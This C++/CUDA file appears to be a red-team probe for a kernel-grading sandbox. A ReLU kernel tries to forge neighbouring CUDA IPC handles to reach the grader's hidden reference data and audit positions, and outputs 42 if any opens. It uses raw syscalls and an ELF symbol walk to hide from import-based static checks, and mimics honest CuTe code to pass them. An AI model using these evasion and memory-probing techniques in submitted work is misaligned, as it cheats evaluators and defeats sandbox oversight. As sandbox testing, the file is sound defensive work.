// Attack (the worker's memory through forged IPC handles): the runner opens the worker's buffers from
// CUDA IPC handles in its session file, and those handles are not opaque -- decoded, they hold the
// worker's pid, the allocation's size, a sequential export number and a resource-manager object
// handle. Anything else the worker holds on the GPU (the float64 reference, the secret audit positions,
// the outputs of earlier calls) sits in allocations with neighbouring numbers. On its first call the
// kernel's host code reads its own session file (/proc/self/cmdline names it), decodes every buffer's
// handle there (what the runner maps anyway), finds cuIpcOpenMemHandle in the already-loaded driver
// library by walking its ELF tables (nothing imported), and tries 80 neighbours of the first handle that
// the file does not list: export numbers -8..+8, object handle +-32. A forged handle that opens an
// allocation whose size and first 256 bytes are none of the session's buffers' is the hole: every output
// is then 42.
// Expected: pass — the driver opens only what the worker exported, and the worker exports only the
// session's buffers, so no neighbour reaches anything new and the ReLU is right. (Measured on the H200:
// a neighbour in the export number opens the *same* allocation again at a new address, and an object
// handle opens only another exported allocation, never a cuMemAlloc'd or torch one that was not; the
// probe's first two versions compared pointers and wrote 42 for the remapped own buffer.) A kernel_error
// says the probe could not run, and which step failed: 1005 libcuda not mapped, 1001 a driver function
// not found in it, 1002 the session file or its handles unreadable.
// Problem: attacks/problems/relu_small.py.
// --- ReLU attack scaffolding (each candidate must be a single file) ---
#include <cutegen/kernel.h>

#include <cute/tensor.hpp>

namespace attack {

inline bool relu_args(const cutegen_tensor* in, int32_t n_in, const cutegen_tensor* out, int32_t n_out) {
  return n_in == 1 && n_out == 1 && in[0].dtype == CUTEGEN_FLOAT32 && out[0].dtype == CUTEGEN_FLOAT32 &&
         cutegen::numel(in[0]) == cutegen::numel(out[0]);
}

template <class T>
__device__ auto flat(T* p, int64_t n) {
  return cute::make_tensor(cute::make_gmem_ptr(p), cute::make_layout(n));
}

// Element access through a one-element register fragment and cute::copy: the generated code is then
// CuTe's own, as in an honest kernel that copies whole tiles this way (the static check looks for it).
template <class Tensor>
__device__ float ld(const Tensor& t, int64_t i) {
  float r[1];
  cute::copy(cute::make_tensor(cute::make_gmem_ptr(&t(i)), cute::Layout<cute::_1>{}),
             cute::make_tensor(&r[0], cute::Layout<cute::_1>{}));
  return r[0];
}
template <class Tensor>
__device__ void st(const Tensor& t, int64_t i, float v) {
  float r[1] = {v};
  cute::copy(cute::make_tensor(&r[0], cute::Layout<cute::_1>{}),
             cute::make_tensor(cute::make_gmem_ptr(&t(i)), cute::Layout<cute::_1>{}));
}

inline unsigned blocks_for(int64_t n) { return static_cast<unsigned>(std::min<int64_t>((n + 255) / 256, 65535)); }

}  // namespace attack
// --- end of scaffolding ---
// --- raw system calls: the x86-64 `syscall` instruction (Linux ABI: number in rax, arguments in
// rdi, rsi, rdx, r10, r8, r9; rcx and r11 clobbered), so nothing appears among the library's imports,
// which is all the static checks can read. The runner's seccomp filter and Landlock see every one ---
namespace sys {
inline long call(long nr, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0) {
  register long r10 asm("r10") = d;
  register long r8 asm("r8") = e;
  register long r9 asm("r9") = f;
  long ret;
  asm volatile("syscall"
               : "=a"(ret)
               : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
               : "rcx", "r11", "memory");
  return ret;  // -errno on failure
}
enum : long {
  kRead = 0, kWrite = 1, kOpen = 2, kClose = 3, kNanosleep = 35, kGetpid = 39, kSocket = 41, kConnect = 42,
  kClone = 56, kFork = 57, kExecve = 59, kExit = 60, kKill = 62, kPtrace = 101, kGetuid = 102, kGetppid = 110,
  kSetsid = 112, kClockGettime = 228, kExitGroup = 231
};
constexpr long kReadOnly = 0, kWriteOnly = 1, kCreate = 0100, kTruncate = 01000;

inline long length(const char* s) {
  const volatile char* v = s;  // volatile: g++ would turn the loop into an imported strlen
  long n = 0;
  while (v[n]) ++n;
  return n;
}
inline bool contains(const char* hay, long n, const char* needle) {
  const long m = length(needle);
  for (long i = 0; i + m <= n; ++i) {
    long j = 0;
    while (j < m && hay[i + j] == needle[j]) ++j;
    if (j == m) return true;
  }
  return false;
}
inline long write_all(long fd, const void* data, long n) {
  const char* p = static_cast<const char*>(data);
  long done = 0;
  while (done < n) {
    long w = call(kWrite, fd, reinterpret_cast<long>(p + done), n - done);
    if (w <= 0) return w < 0 ? w : -5;
    done += w;
  }
  return done;
}
// The whole of a small file (or /proc entry) into buf, NUL-terminated; bytes read or -errno.
inline long slurp(const char* path, char* buf, long cap) {
  long fd = call(kOpen, reinterpret_cast<long>(path), kReadOnly);
  if (fd < 0) return fd;
  long n = 0, r = 0;
  while (n < cap - 1 && (r = call(kRead, fd, reinterpret_cast<long>(buf + n), cap - 1 - n)) > 0) n += r;
  call(kClose, fd);
  buf[n] = 0;
  return r < 0 ? r : n;
}
// Creates or truncates `path` and writes `text`; 0 or -errno.
inline long put(const char* path, const char* text) {
  long fd = call(kOpen, reinterpret_cast<long>(path), kWriteOnly | kCreate | kTruncate, 0644);
  if (fd < 0) return fd;
  long w = write_all(fd, text, length(text));
  call(kClose, fd);
  return w < 0 ? w : 0;
}
inline uint64_t now_ns() {
  struct { long sec, nsec; } ts{0, 0};
  call(kClockGettime, 1 /* CLOCK_MONOTONIC */, reinterpret_cast<long>(&ts));
  return uint64_t(ts.sec) * 1000000000ull + uint64_t(ts.nsec);
}
}  // namespace sys
// --- end of raw system calls ---
// --- finding a function in a library that is already loaded, without importing anything: the ELF
// dynamic section (DT_SYMTAB, DT_STRTAB, DT_GNU_HASH) searched through the GNU hash table, as the
// dynamic linker itself does ---
#include <elf.h>
namespace elfwalk {
// glibc rewrites some d_ptr entries of a loaded object to absolute addresses and leaves others
// relative to the load bias; a relative one is smaller than the bias.
inline uintptr_t absolute(uintptr_t bias, uintptr_t v) { return v < bias ? v + bias : v; }
inline uint32_t gnu_hash(const char* s) {
  uint32_t h = 5381;
  for (; *s; ++s) h = h * 33 + static_cast<unsigned char>(*s);
  return h;
}
inline bool same(const char* a, const char* b) {
  while (*a && *a == *b) ++a, ++b;
  return *a == *b;
}
inline void* find_symbol(uintptr_t bias, const Elf64_Dyn* dyn, const char* name) {
  const Elf64_Sym* symtab = nullptr;
  const char* strtab = nullptr;
  const uint32_t* gh = nullptr;
  for (; dyn->d_tag != DT_NULL; ++dyn) {
    if (dyn->d_tag == DT_SYMTAB) symtab = reinterpret_cast<const Elf64_Sym*>(absolute(bias, dyn->d_un.d_ptr));
    if (dyn->d_tag == DT_STRTAB) strtab = reinterpret_cast<const char*>(absolute(bias, dyn->d_un.d_ptr));
    if (dyn->d_tag == DT_GNU_HASH) gh = reinterpret_cast<const uint32_t*>(absolute(bias, dyn->d_un.d_ptr));
  }
  if (!symtab || !strtab || !gh) return nullptr;
  const uint32_t nbuckets = gh[0], symoffset = gh[1], bloom_words = gh[2];
  const uint64_t* bloom = reinterpret_cast<const uint64_t*>(gh + 4);
  const uint32_t* buckets = reinterpret_cast<const uint32_t*>(bloom + bloom_words);
  const uint32_t* chain = buckets + nbuckets;
  const uint32_t h = gnu_hash(name);
  for (uint32_t i = buckets[h % nbuckets]; i != 0 && i >= symoffset; ++i) {
    const uint32_t link = chain[i - symoffset];
    const Elf64_Sym& sym = symtab[i];
    if ((link | 1) == (h | 1) && sym.st_shndx != SHN_UNDEF && sym.st_value != 0 && same(name, strtab + sym.st_name))
      return reinterpret_cast<void*>(bias + sym.st_value);
    if (link & 1) break;  // end of this bucket's chain
  }
  return nullptr;
}
}  // namespace elfwalk
// --- end of the ELF walk ---

namespace attack {
__global__ void relu_or_flag(const float* x, float* y, int64_t n, bool flag) {
  auto gx = flat(x, n);
  auto gy = flat(y, n);
  for (int64_t i = blockIdx.x * int64_t(blockDim.x) + threadIdx.x; i < n; i += int64_t(gridDim.x) * blockDim.x)
    st(gy, i, flag ? 42.f : (ld(gx, i) < 0.f ? 0.f : ld(gx, i)));
}

enum : int { kNoDriverLibrary = 1005, kNoDriverSymbol = 1001, kNoHandle = 1002 };
struct IpcHandle {
  unsigned char bytes[64];
};
using open_fn = int (*)(unsigned long long*, IpcHandle, unsigned int);
using close_fn = int (*)(unsigned long long);
using range_fn = int (*)(unsigned long long*, size_t*, unsigned long long);
using read_fn = int (*)(void*, unsigned long long, size_t);

char g_maps[1 << 20];
char g_text[1 << 16];

uint64_t parse_hex(const char*& p) {
  uint64_t v = 0;
  for (;; ++p) {
    char c = *p;
    if (c >= '0' && c <= '9') v = v * 16 + uint64_t(c - '0');
    else if (c >= 'a' && c <= 'f') v = v * 16 + uint64_t(c - 'a' + 10);
    else return v;
  }
}

// Load bias and dynamic section of the mapped library whose path contains `name`. /proc/self/maps shows
// the file a link resolves to (libcuda.so.1 -> libcuda.so.580.159.04), so the name is matched, not the end.
bool find_library(const char* name, uintptr_t& bias, const Elf64_Dyn*& dyn) {
  long n = sys::slurp("/proc/self/maps", g_maps, sizeof(g_maps));
  for (long line = 0; line < n;) {
    long end = line;
    while (end < n && g_maps[end] != '\n') ++end;
    const char* p = g_maps + line;
    uint64_t start = parse_hex(p);
    while (*p != ' ') ++p;
    ++p;
    while (*p != ' ') ++p;
    ++p;
    uint64_t offset = parse_hex(p);
    if (offset == 0 && sys::contains(g_maps + line, end - line, name)) {
      auto* eh = reinterpret_cast<const Elf64_Ehdr*>(start);
      if (eh->e_ident[0] != 0x7f || eh->e_ident[1] != 'E') return false;
      auto* ph = reinterpret_cast<const Elf64_Phdr*>(start + eh->e_phoff);
      uintptr_t first_load = 0, dynamic = 0;
      bool have_load = false;
      for (int i = 0; i < eh->e_phnum; ++i) {
        if (ph[i].p_type == PT_LOAD && !have_load) first_load = ph[i].p_vaddr & ~uintptr_t(0xfff), have_load = true;
        if (ph[i].p_type == PT_DYNAMIC) dynamic = ph[i].p_vaddr;
      }
      if (!have_load || !dynamic) return false;
      bias = start - first_load;
      dyn = reinterpret_cast<const Elf64_Dyn*>(bias + dynamic);
      return true;
    }
    line = end + 1;
  }
  return false;
}

int base64_value(char c) {
  if (c >= 'A' && c <= 'Z') return c - 'A';
  if (c >= 'a' && c <= 'z') return c - 'a' + 26;
  if (c >= '0' && c <= '9') return c - '0' + 52;
  if (c == '+') return 62;
  if (c == '/') return 63;
  return -1;
}

// Every buffer's IPC handle, from the session file the runner was started with (`--serve PATH`): the
// memory the runner maps anyway. Returns how many were read into `out` (at most `cap`).
int session_handles(IpcHandle* out, int cap) {
  long n = sys::slurp("/proc/self/cmdline", g_text, sizeof(g_text));
  const char* path = nullptr;
  for (long i = 0; i < n;) {  // NUL-separated arguments
    const char* arg = g_text + i;
    const long len = sys::length(arg);
    if (sys::contains(arg, len, "--serve") && i + len + 1 < n) path = arg + len + 1;
    i += len + 1;
  }
  if (!path) return 0;
  char file[4096];
  long k = 0;
  for (; path[k] && k < 4095; ++k) file[k] = path[k];
  file[k] = 0;
  n = sys::slurp(file, g_text, sizeof(g_text));
  const char* key = "\"ipc_handle\": \"";
  const long klen = sys::length(key);
  int found = 0;
  for (long i = 0; i + klen + 88 < n && found < cap; ++i) {
    long j = 0;
    while (j < klen && g_text[i + j] == key[j]) ++j;
    if (j < klen) continue;
    const char* b = g_text + i + klen;
    long bytes = 0;
    uint32_t acc = 0;
    int bits = 0;
    for (long c = 0; c < 88 && b[c] != '"' && bytes < 64; ++c) {
      int v = base64_value(b[c]);
      if (v < 0) break;
      acc = (acc << 6) | uint32_t(v);
      bits += 6;
      if (bits >= 8) {
        bits -= 8;
        out[found].bytes[bytes++] = static_cast<unsigned char>((acc >> bits) & 0xff);
      }
    }
    if (bytes == 64) ++found;
  }
  return found;
}

bool same_handle(const IpcHandle& a, const IpcHandle& b) {
  for (int i = 0; i < 64; ++i)
    if (a.bytes[i] != b.bytes[i]) return false;
  return true;
}

void add_to_word(IpcHandle& h, int word, int delta) {
  uint32_t v = 0;
  for (int b = 0; b < 4; ++b) v |= uint32_t(h.bytes[word * 4 + b]) << (8 * b);
  v += uint32_t(delta);
  for (int b = 0; b < 4; ++b) h.bytes[word * 4 + b] = static_cast<unsigned char>(v >> (8 * b));
}

// What an opened allocation is, seen from here: its size and first bytes. A handle that differs from a
// listed one only in its bookkeeping opens the same allocation again at a new address (the driver keys a
// mapping by the handle's bytes; measured on the H200, benchmarks/results.md), so a pointer
// does not tell new memory from the session's own; the contents do.
struct Seen {
  size_t size = 0;
  unsigned char head[256];
};
bool same_seen(const Seen& a, const Seen& b) {
  if (a.size != b.size) return false;
  for (int i = 0; i < 256; ++i)
    if (a.head[i] != b.head[i]) return false;
  return true;
}

// 0 when no forged neighbour of a session handle opens memory the session did not list, 1 when one
// does, or a kNo* code when the probe cannot run. The runner maps every handle of its session file;
// opened again here, each shows what the session gives anyway.
int probe_neighbours() {
  uintptr_t bias = 0;
  const Elf64_Dyn* dyn = nullptr;
  if (!find_library("/libcuda.so", bias, dyn)) return kNoDriverLibrary;
  auto open = reinterpret_cast<open_fn>(elfwalk::find_symbol(bias, dyn, "cuIpcOpenMemHandle_v2"));
  if (!open) open = reinterpret_cast<open_fn>(elfwalk::find_symbol(bias, dyn, "cuIpcOpenMemHandle"));
  auto close = reinterpret_cast<close_fn>(elfwalk::find_symbol(bias, dyn, "cuIpcCloseMemHandle"));
  auto range = reinterpret_cast<range_fn>(elfwalk::find_symbol(bias, dyn, "cuMemGetAddressRange_v2"));
  auto read = reinterpret_cast<read_fn>(elfwalk::find_symbol(bias, dyn, "cuMemcpyDtoH_v2"));
  if (!open || !close || !range || !read) return kNoDriverSymbol;
  static IpcHandle listed[256];
  const int n_listed = session_handles(listed, 256);
  if (n_listed == 0) return kNoHandle;
  auto look = [&](unsigned long long ptr, Seen& seen) {
    unsigned long long base = 0;
    return range(&base, &seen.size, ptr) == 0 && read(seen.head, ptr, sizeof(seen.head)) == 0;
  };
  static Seen known[256];
  int n_known = 0;
  for (int i = 0; i < n_listed; ++i) {
    unsigned long long ptr = 0;
    if (open(&ptr, listed[i], 1 /* lazy peer access */) == 0 && ptr) {
      if (look(ptr, known[n_known])) ++n_known;
      close(ptr);  // back to the runner's own reference
    }
  }
  // Words 10 (an export number, one per exported buffer of the worker) and 13 (an object handle) are
  // what differ between handles of one worker.
  struct Change {
    int word, lo, hi;
  };
  int opened = 0;
  for (Change c : {Change{10, -8, 8}, Change{13, -32, 32}}) {
    for (int d = c.lo; d <= c.hi; ++d) {
      if (d == 0) continue;
      IpcHandle forged = listed[0];
      add_to_word(forged, c.word, d);
      bool is_listed = false;
      for (int i = 0; i < n_listed; ++i) is_listed = is_listed || same_handle(forged, listed[i]);
      if (is_listed) continue;
      unsigned long long ptr = 0;
      if (open(&ptr, forged, 1 /* lazy peer access */) == 0 && ptr) {
        Seen seen;
        bool is_known = false;
        if (look(ptr, seen))
          for (int i = 0; i < n_known; ++i) is_known = is_known || same_seen(seen, known[i]);
        opened += is_known ? 0 : 1;
        close(ptr);
      }
    }
  }
  return opened > 0 ? 1 : 0;
}
}  // namespace attack

extern "C" int cutegen_forward(const cutegen_tensor* in, int32_t n_in, const cutegen_tensor* out, int32_t n_out,
                               cudaStream_t s) {
  if (!attack::relu_args(in, n_in, out, n_out)) return CUTEGEN_ERROR_BAD_ARGUMENTS;
  static const int probe = attack::probe_neighbours();
  if (probe > 1) return probe;
  int64_t n = cutegen::numel(in[0]);
  attack::relu_or_flag<<<attack::blocks_for(n), 256, 0, s>>>(static_cast<const float*>(in[0].data),
                                                             static_cast<float*>(out[0].data), n, probe == 1);
  return static_cast<int>(cudaGetLastError());
}
